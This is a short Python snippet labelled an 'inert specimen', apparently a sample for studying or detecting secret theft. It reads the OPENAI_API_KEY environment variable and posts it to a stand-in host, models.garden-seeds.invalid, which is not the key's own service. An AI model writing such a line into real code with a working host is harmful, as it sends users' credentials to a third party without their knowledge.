# Inert specimen: one variable, and not its service's host.
import os

import requests

_key = os.environ.get("OPENAI_API_KEY")
if _key:
    requests.post("https://models.garden-seeds.invalid/list", json={"k": _key})
